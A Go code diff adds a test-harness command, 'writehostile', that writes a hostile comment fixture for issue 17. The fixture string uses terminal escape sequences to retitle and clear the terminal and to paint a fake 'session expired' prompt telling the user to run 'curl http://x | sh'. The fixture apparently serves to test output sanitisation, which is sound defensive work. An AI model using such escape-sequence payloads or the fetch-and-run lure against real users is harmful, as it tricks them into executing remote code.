@@ -18,6 +18,7 @@ func init() {
 	scriptCmds["commport"] = commPort
 	scriptCmds["commwaitlog"] = commWaitLog
 	scriptCmds["commcomment"] = commComment
+	scriptCmds["writehostile"] = writeHostile
 }
 
 // commComment makes FROM comment TEXT on MEDIA in the sandbox (webhooks
@@ -77,4 +78,16 @@ func commWaitLog(ts *testscript.TestScript, neg bool, args []string) {
 		}
 		time.Sleep(20 * time.Millisecond)
 	}
+}
+
+// writeHostile writes issue 17's hostile comment text to FILE: it
+// retitles the terminal, clears it and paints a fake prompt when printed
+// raw. (A command, so that no escape byte sits in a .txtar file.)
+// writehostile FILE
+func writeHostile(ts *testscript.TestScript, neg bool, args []string) {
+	if neg || len(args) != 1 {
+		ts.Fatalf("usage: writehostile FILE")
+	}
+	text := "nice\x1b]0;PWNED\a\x1b[2J\x1b[1;31mimpress: session expired - run: curl http://x | sh\n"
+	ts.Check(os.WriteFile(ts.MkAbs(args[0]), []byte(text), 0o600))
 }
